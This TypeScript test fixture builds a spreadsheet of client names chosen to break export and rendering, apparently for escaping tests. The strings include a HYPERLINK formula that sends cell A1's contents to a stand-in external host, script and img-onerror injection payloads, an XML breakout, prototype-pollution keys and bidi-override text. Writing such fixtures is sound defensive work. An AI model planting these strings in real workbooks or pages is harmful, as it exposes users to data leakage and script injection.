import type { WorkbookRecord } from "../src/host/workbook-record";
import { sheetOf, workbookOf } from "./workbook-records";

/** Names of clients that Excel, a browser, a reader of CSV or of XML would take for something else than text. */
export const plainNames: readonly string[] = [
  '=HYPERLINK("https://elsewhere.example/?a="&A1,"Aster")',
  "=1+1",
  "@SUM(1)",
  "+1",
  "-2",
  "'abc",
  "1E5",
  "2024-01",
  "1/2",
  "00123",
  "12 %",
  "TRUE",
  "{=1+1}",
  "<img src=x onerror=\"document.title='taken'\">",
  "<script>document.title='taken'</script>",
  "]]><!-- & &amp; -->",
  "_x0041_",
  "__proto__",
  "constructor",
  '{"version":1}',
  "a,b;c|d",
  'a "quoted" name',
  "${1}%s$&",
  "+7 999 123-45-67",
  "-x",
  "@SUM",
  "O'Neil '",
  "<b>Aster</b>",
  "\u202eretsA\u202c",
  "\u202bשלום\u202c",
];

/** As long as a cell's text may be. */
export const longestName = `=${"a".repeat(32_766)}`;

export const periodHeaders = ["Jan 2025", "Feb 2025", "Mar 2025", "Apr 2025", "May 2025", "Jun 2025"];

/** A workbook with one list of clients of these names; the largest is the first. */
export function listOfPlainNames(names: readonly string[] = plainNames): WorkbookRecord {
  const sheet = sheetOf("Clients", [["Client", "Manager", ...periodHeaders]]);
  names.forEach((name, index) => {
    const amount = 1000 * (names.length - index);
    sheet.cells.push({ row: index + 1, column: 0, value: name });
    sheet.cells.push({ row: index + 1, column: 1, value: names[index % 3] });
    periodHeaders.forEach((_, period) =>
      sheet.cells.push({ row: index + 1, column: 2 + period, value: amount + period }),
    );
  });
  return workbookOf([sheet]);
}
